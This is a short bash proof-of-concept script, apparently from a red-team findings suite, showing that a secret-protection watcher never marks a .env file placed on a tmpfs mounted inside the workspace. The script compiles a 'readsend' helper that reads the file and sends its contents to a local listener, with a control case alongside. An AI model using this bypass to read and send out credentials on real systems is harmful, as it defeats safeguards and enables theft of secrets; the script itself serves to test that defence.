#!/bin/bash
# A secret on another file system mounted below a readable root (a volume in the workspace) is
# never marked: the start-up walk and the watcher stay on the root's st_dev. The kernel opens it.
set -u; . /work/wt/redteam/findings/common.sh
D=$RT/findings/submount-never-walked; W=$D/ws H=$D/home; umount $W/vol 2>/dev/null; rm -rf $W $H; mkdir -p $W/vol $H
gcc -O1 -I$RT/findings -o $W/readsend $RT/findings/readsend.c
mount -t tmpfs rt-submount $W/vol && echo "SECRET5-submount-77" > $W/vol/.env
listen 127.77.9.22 $D/out.txt
echo "== control: same file in the workspace itself"; echo "SECRET5-control" > $W/.env
run $H $W ./readsend 127.77.9.22 plain .env
echo "== attack: vol/.env (tmpfs mounted at ws/vol)"; run $H $W ./readsend 127.77.9.22 plain vol/.env
verdict $D/out.txt SECRET5-submount; umount $W/vol
